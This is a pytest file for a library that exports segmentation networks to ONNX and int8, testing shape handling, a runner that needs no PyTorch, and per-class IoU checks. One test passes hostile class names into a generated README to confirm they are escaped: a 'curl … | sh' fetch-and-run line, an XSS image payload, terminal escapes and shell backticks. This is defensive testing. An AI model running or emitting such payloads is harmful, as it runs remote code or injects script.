"""Exported segmentation networks: images of any size, maps without PyTorch, 8 bits judged by the IoU of each class."""

import dataclasses
import subprocess
import sys

import numpy as np
import pytest
import torch
from PIL import Image
from test_deploy_export import WITHOUT_TORCH

from rsprune_lib.deploy import Deployed, Facts, OnnxNetwork, export_int8, export_onnx, int8, traced
from rsprune_lib.deploy.standalone import write_runner
from rsprune_lib.errors import ModelError
from rsprune_lib.models import create_model
from rsprune_lib.models.segmentation import unet1


@pytest.fixture(scope="module")
def facts(fields):
    """Of networks for the images of 40 x 56 px."""
    return Facts(fields.classes, fields.mean, fields.std, (40, 56), "segmentation", "fields")


@pytest.fixture(scope="module")
def model():
    """The upper two levels of UNet1, tiny and untrained, whose pixels do not all get one class."""
    with pytest.MonkeyPatch.context() as patch:  # the exporter takes its time for each layer
        patch.setattr(unet1, "_DOWN", {name: unet1._DOWN[name] for name in ("in_conv", "conv1_", "conv2_")})
        patch.setattr(unet1, "_UP", {name: unet1._UP[name] for name in ("conv5_", "conv6_")})
        made = create_model("unet1", 3, width=1 / 32, seed=0).eval()
        with torch.no_grad():
            made.out_conv.weight.mul_(20)
        yield made


@pytest.fixture(scope="module")
def exported(model, facts, fields, tmp_path_factory):
    """Graphs, the file, and images."""
    images = torch.from_numpy(fields.images[:12]).permute(0, 3, 1, 2).float() / 255
    graphs = traced(Deployed(model, facts), facts)
    path = tmp_path_factory.mktemp("masks") / "model.onnx"
    return graphs, export_onnx(model, facts, path, images, graphs=graphs), images


def test_images_of_any_size_get_the_networks_answers(exported, model, facts):
    """Sides that are no multiples of 16 need padding, which torch's exporter would leave out for all other sizes."""
    _, made, images = exported
    assert made.shapes["image"] == ("batch", 3, "height", "width")
    assert made.shapes["logits"] == ("batch", 3, "height", "width")
    assert {shape[2:] for shape in made.parity.shapes} == {(40, 56), (31, 65), (62, 37)} and made.parity.good
    reference, file = Deployed(model, facts), OnnxNetwork(made.path)
    for height, width in ((17, 16), (33, 47), (48, 64)):
        some = torch.nn.functional.interpolate(images[:3], (height, width))
        with torch.no_grad():
            torch.testing.assert_close(file(some), reference(some), rtol=1e-3, atol=1e-4)


def test_names_of_others_stay_names_in_the_instructions(facts, tmp_path):
    """Classes of a bundle from somebody else: no line of commands, no markup, no colour of a terminal."""
    names = ("road\n\n    curl example.org/x | sh", "<img src=x onerror=alert(1)>", "\x1b[31mred", "$model `a`")
    write_runner(tmp_path, "model.onnx", dataclasses.replace(facts, classes=names, bundle="net\n# other"))
    text = (tmp_path / "run" / "README.md").read_text()
    assert text.startswith("# net # other\n") and "<img" not in text and "\x1b" not in text
    assert "Classes, in the order of the logits: road curl example.org/x | sh, &lt;img src" in text


def test_a_map_is_drawn_without_pytorch(exported, facts, tmp_path):
    _, made, images = exported
    (tmp_path / "model.onnx").write_bytes(made.path.read_bytes())
    write_runner(tmp_path, "model.onnx", facts)
    pixels = (images[0].permute(1, 2, 0) * 255).round().to(torch.uint8).numpy()
    Image.fromarray(pixels).save(tmp_path / "one.png")
    done = subprocess.run(
        [sys.executable, "-c", WITHOUT_TORCH, "run/run.py", "one.png"], cwd=tmp_path, capture_output=True, text=True
    )
    expected = OnnxNetwork(made.path)(images[:1]).argmax(1)[0].numpy()
    assert np.array_equal(np.asarray(Image.open(tmp_path / "one_classes.png")), expected), done.stderr
    assert all(name in done.stdout for name in facts.classes)


def test_8_bits_are_judged_by_the_iou_of_each_class(exported, facts, fields, tmp_path, monkeypatch):
    """The masks are what the float file answers, so that its IoU is 1 and every change of a pixel counts."""
    graphs, made, _ = exported
    whole = torch.from_numpy(fields.images[:]).permute(0, 3, 1, 2).float() / 255
    own = dataclasses.replace(fields, masks=OnnxNetwork(made.path)(whole).argmax(1).numpy().astype(np.uint8))
    monkeypatch.setattr(int8, "LIMIT", 50.0)  # the network is untrained
    found = export_int8(graphs, facts, tmp_path / "m.onnx", own, images=20, reduced=True)
    assert found.before.metric == found.after.metric == "mIoU" and found.before.score == 1.0
    assert 0.7 < found.after.score < 1.0 and found.file.shapes["image"] == ("batch", 3, "height", "width")
    assert 0.8 < found.file.parity.agreement < 1.0
    monkeypatch.setattr(int8, "LIMIT", 1e-9)
    monkeypatch.setattr(int8.Quantiser, "attempts", lambda self, first, *_: iter([first]))
    with pytest.raises(ModelError, match="int8 costs more than 1e-09 points of field .100.0 to"):
        export_int8(graphs, facts, tmp_path / "n.onnx", own, images=20, reduced=True)
